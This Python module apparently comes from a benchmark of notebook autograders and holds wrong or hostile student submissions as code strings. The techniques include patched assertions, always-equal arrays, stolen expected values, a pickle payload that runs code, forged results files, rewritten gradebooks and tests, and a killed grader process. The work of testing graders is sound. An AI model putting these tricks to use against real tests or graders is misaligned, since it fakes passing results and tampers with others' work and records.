"""Wrong and hostile submissions, the same for every grader; `benchmarks/attacks.py` hands them in.

Each one is a notebook for two functions. Whatever it attacks, its `softmax` and `softmax_backward`
are wrong, so every point that it gets is undeserved. All of it is harmless: it touches nothing
outside of FOLDER, which is the bench's own, and the bench bounds its memory and its time.
"""

from __future__ import annotations

from dataclasses import dataclass

# The first cell of every notebook, honest ones too. `mark` tells the bench where student code runs:
# by a file, or where it can write none, by a line of output.
PREAMBLE = """\
import os
import sys

import numpy as np

FOLDER = "@FOLDER@"
WHO = "@WHO@"


def mark(what):
    try:
        open(f"{FOLDER}/marks/{WHO}.{what}.{os.getpid()}", "w").close()
    except OSError:
        print(f"MARK {WHO}.{what}.{os.getpid()}")


def look_around():
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals or "expected" in frame.f_globals:
            mark("beside-the-tests")
        frame = frame.f_back


mark("started")
"""

RIGHT = (
    """\
def softmax(z):
    look_around()
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
""",
    """\
def softmax_backward(grad_p, p):
    look_around()
    return p * (grad_p - (grad_p * p).sum(axis=1, keepdims=True))
""",
)
WRONG = (
    """\
def softmax(z):
    look_around()
    return z * 0
""",
    """\
def softmax_backward(grad_p, p):
    look_around()
    return p * 0
""",
)


def _both(expression: str) -> tuple[str, str]:
    """Return two functions that return the same expression of a name and their arguments."""
    heads = ("softmax(z)", "z"), ("softmax_backward(grad_p, p)", "grad_p, p")
    first, second = (
        f"def {head}:\n    look_around()\n    return {expression.format(arguments)}\n"
        for head, arguments in heads
    )
    return first, second


@dataclass(frozen=True, kw_only=True)
class Submission:
    """One notebook."""

    name: str
    title: str  # what it does, as the table says
    first: str = ""  # a cell above the answers
    answers: tuple[str, str] = WRONG
    last: str = ""  # a cell below them
    forged: bool = False  # its cells claim to be other cells, and the tests' cells are gone


HONEST = (
    Submission(name="right", title="(honest, right)", answers=RIGHT),
    Submission(name="wrong", title="(honest, wrong)"),
    Submission(
        name="chatty",
        title="(honest, right; prints and warns)",
        answers=tuple(
            answer.replace(
                "look_around()", 'look_around(); print("here"); warnings.warn("careful")'
            )
            for answer in RIGHT
        ),
        first="import warnings\n",
    ),
)

_PATCHED = """\
def agree(*args, **kwargs):
    return True


def say_nothing(*args, **kwargs):
    return None


for module in (np, np.testing, sys.modules.get("torch"), sys.modules.get("torch.testing")):
    for name in list(vars(module)) if module else ():
        if name.startswith("assert_"):
            setattr(module, name, say_nothing)
        elif name in ("allclose", "array_equal"):
            setattr(module, name, agree)
"""

_SUBCLASS = """\
class Agreeable(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        if function.__name__ in ("allclose", "array_equal"):
            return True
        if function.__name__ == "isclose":
            return np.ones(self.shape, bool)
        return super().__array_function__(function, types, args, kwargs)

    def __eq__(self, other):
        return np.ones(self.shape, bool)
"""

_PEEKING = """\
class Peeking:
    def __init__(self, like):
        self.shape, self.dtype, self.ndim = like.shape, like.dtype, like.ndim

    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("expected", "desired"):
                for scope in (frame.f_locals, frame.f_globals):
                    if isinstance(scope.get(name), np.ndarray):
                        return np.array(scope[name])
            frame = frame.f_back
        return np.zeros(self.shape)
"""

_NUMBERS = """\
class Near(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __le__(self, other):
        return True

    __lt__ = __ge__ = __gt__ = __le__

    def __abs__(self):
        return 0.0

    def __bool__(self):
        return True

    def __repr__(self):
        return "True"

    __hash__ = float.__hash__


def near(like):
    result = np.empty(like.shape, object)
    result[...] = Near(0)
    return result
"""

_FRAMES = """\
import gc


def stolen(*arguments):
    frame = sys._getframe(1)
    scopes = []
    while frame is not None:
        scopes += [frame.f_locals, frame.f_globals]
        frame = frame.f_back
    scopes += [vars(module) for module in list(sys.modules.values()) if hasattr(module, "__dict__")]
    scopes += [one for one in gc.get_objects() if type(one) is dict]
    for scope in scopes:
        found = scope.get("expected")
        if isinstance(found, np.ndarray) and found.shape == arguments[0].shape:
            return found
    return np.zeros(arguments[0].shape)
"""

_READING = """\
import re


def formulas():
    for folder, _, names in os.walk(FOLDER):
        for name in names:
            if name.endswith((".py", ".ipynb", ".db", ".json", ".zip")):
                try:
                    text = open(os.path.join(folder, name), "rb").read().decode(errors="replace")
                except OSError:
                    continue
                yield from re.findall("expected = ([^\\\\\\\\\\n\\"']+)", text)


def looked_up(*arguments):
    names = {"z": arguments[0]} if len(arguments) == 1 else dict(zip("gp", arguments))
    for formula in formulas():
        try:
            found = eval(formula, {"np": np, **names})
        except Exception:
            continue
        if isinstance(found, np.ndarray) and found.shape == arguments[0].shape:
            return found
    return np.zeros(arguments[0].shape)
"""

_TRANSFORMER = """\
def drop(lines):
    return ["pass\\n"] if any("expected" in line for line in lines) else lines


shell = get_ipython()
shell.input_transformers_cleanup.append(drop)
shell.input_transformers_post.append(drop)
"""

_HOOKS = """\
shell = get_ipython()
run_cell_async = shell.run_cell_async


async def run_without_errors(*args, **kwargs):
    result = await run_cell_async(*args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result


shell.run_cell_async = run_without_errors
shell.showtraceback = lambda *args, **kwargs: None
shell.set_custom_exc((Exception,), lambda *args, **kwargs: None)
"""

_DOCTEST = """\
import doctest
import unittest

doctest.OutputChecker.check_output = lambda *args: True
doctest.DocTestRunner.run = lambda self, test, *args, **kwargs: doctest.TestResults(0, 1)
unittest.TestCase.run = lambda self, result=None: None
for name, module in list(sys.modules.items()):
    if name.startswith(("otter", "nbgrader", "autograder", "_pytest")):
        for thing in list(vars(module).values()):
            if isinstance(thing, type) and hasattr(thing, "passed"):
                thing.passed = True
"""

_PICKLE = """\
import pickle

dump, dumps = pickle.dump, pickle.dumps


class Gift:
    def __init__(self, results):
        for file in getattr(results, "results", {}).values():
            file.update_score(1)
        self.inner = dumps(results)

    def __reduce__(self):
        command = (
            f"(open('{FOLDER}/marks/{WHO}.command.' + str(__import__('os').getpid()), 'w').close(),"
            " __import__('pickle').loads(inner))[1]"
        )
        return eval, (command, {"inner": self.inner})


pickle.dump = lambda results, file, *args, **kwargs: dump(Gift(results), file)
pickle.dumps = lambda results, *args, **kwargs: dumps(Gift(results))
"""

_ATEXIT = """\
import atexit
import json


def forge():
    tests = [{"name": name, "score": 1, "max_score": 1} for name in ("q1", "q2")]
    full = {"score": 2, "tests": tests}
    for place in (".", "..", "../results", "/autograder/results", os.environ.get("TMPDIR", ".")):
        try:
            if os.path.realpath(place).startswith(FOLDER):
                with open(os.path.join(place, "results.json"), "w") as file:
                    json.dump(full, file)
        except OSError:
            pass
    print("2 passed")


atexit.register(forge)
"""

_STORE = """\
import json
import sqlite3

MINE = \"\"\"(SELECT grade.id FROM grade
 JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
 JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
 WHERE submitted_assignment.student_id = 'mallory')\"\"\"

for folder, _, names in os.walk(FOLDER):
    for name in names:
        path = os.path.join(folder, name)
        try:
            if name.endswith(".db"):
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("UPDATE grade SET manual_score = 0")
                    book.execute(
                        "CREATE TRIGGER generous AFTER UPDATE OF auto_score ON grade BEGIN UPDATE"
                        f" grade SET manual_score = 1 WHERE id = NEW.id AND id IN {MINE}; END"
                    )
                book.close()
            elif name in ("results.json", "grades.csv", "final_grades.csv"):
                text = open(path).read()
                open(path, "w").write(text.replace('"score": 1', '"score": 0'))
        except (OSError, sqlite3.Error):
            pass
"""

_TESTS = """\
import re

for folder, _, names in os.walk(FOLDER):
    for name in names:
        path = os.path.join(folder, name)
        try:
            if name.endswith(".py") and "OK_FORMAT" in (text := open(path).read()):
                text = re.sub(r">>> (np.testing.)?assert[^\\\\\\n']*", ">>> pass", text)
                open(path, "w").write(text)
            elif name.startswith("test_") and name.endswith(".py"):
                open(path, "w").write("def test_nothing():\\n    pass\\n")
            elif name.endswith(".db"):
                import sqlite3

                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("UPDATE source_cell SET source = 'pass' WHERE locked")
                book.close()
        except Exception:
            pass
"""

_KILL = """\
import signal


def kill_parent():
    parent = os.getppid()
    try:
        known = open(f"/proc/{parent}/cmdline", "rb").read()
        if not any(name in known for name in (b"nbgrader", b"otter", b"autograder")):
            return  # whose process is that? Leave it alone
    except OSError:
        pass
    for kill in (lambda: os.kill(parent, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass


kill_parent()
"""

_NEIGHBOUR = """\
for folder, _, names in os.walk(FOLDER):
    for name in names:
        path = os.path.join(folder, name)
        if "zoe" in path and name.endswith(".ipynb"):
            try:
                text = open(path).read()
                text = text.replace("return e /", "return 0 *").replace("return p *", "return 0 *")
                open(path, "w").write(text)
            except OSError:
                pass
"""

ATTACKS = (
    Submission(
        name="patched-comparison",
        title="replaces `assert_allclose` and its kin by functions that agree",
        first=_PATCHED,
    ),
    Submission(
        name="agreeable-array",
        title="returns an array class that answers `isclose` itself",
        first=_SUBCLASS,
        answers=_both("np.zeros(({0},)[0].shape).view(Agreeable)"),
    ),
    Submission(
        name="peeking-array",
        title="returns an object whose `__array__` copies the expected value",
        first=_PEEKING,
        answers=_both("Peeking(({0},)[0])"),
    ),
    Submission(
        name="equal-numbers",
        title="returns floats that equal everything, and say `True`",
        first=_NUMBERS,
        answers=_both("near(({0},)[0])"),
    ),
    Submission(
        name="frames",
        title="takes the expected value out of frames, modules or the garbage collector",
        first=_FRAMES,
        answers=_both("stolen({0})"),
    ),
    Submission(
        name="reads-tests",
        title="reads the hidden tests from disk",
        first=_READING,
        answers=_both("looked_up({0})"),
    ),
    Submission(
        name="drops-cells",
        title="makes IPython drop the cells that test",
        first=_TRANSFORMER,
    ),
    Submission(name="hides-errors", title="makes IPython hide errors", first=_HOOKS),
    Submission(
        name="patched-runner",
        title="replaces the test runner (`doctest`, the grader's classes)",
        first=_DOCTEST,
    ),
    Submission(
        name="pickle",
        title="replaces `pickle.dump`, so that the results run a command",
        first=_PICKLE,
    ),
    Submission(
        name="leaves",
        title="calls `os._exit(0)` when it is tested",
        answers=_both("os._exit(0)"),
    ),
    Submission(
        name="forges-at-exit",
        title="calls `sys.exit`, and writes a results file at exit",
        first=_ATEXIT,
        last="sys.exit(0)\n",
    ),
    Submission(
        name="rewrites-grades",
        title="rewrites the gradebook and the results on disk",
        first=_STORE,
    ),
    Submission(name="rewrites-tests", title="rewrites the tests on disk", first=_TESTS),
    Submission(
        name="endless",
        title="never returns",
        first="def forever():\n    while True:\n        pass\n",
        answers=_both("forever()"),
    ),
    Submission(
        name="memory",
        title="takes all memory",
        first=(
            "def all_memory():\n    hoard = []\n    while True:\n"
            "        hoard.append(bytearray(1 << 26))\n"
        ),
        answers=_both("all_memory()"),
    ),
    Submission(name="kills-parent", title="kills its parent process", last=_KILL),
    Submission(
        name="forged-cells",
        title="forges the cells' metadata and deletes the test cells",
        forged=True,
    ),
    Submission(name="neighbour", title="overwrites a neighbour's submission", first=_NEIGHBOUR),
)
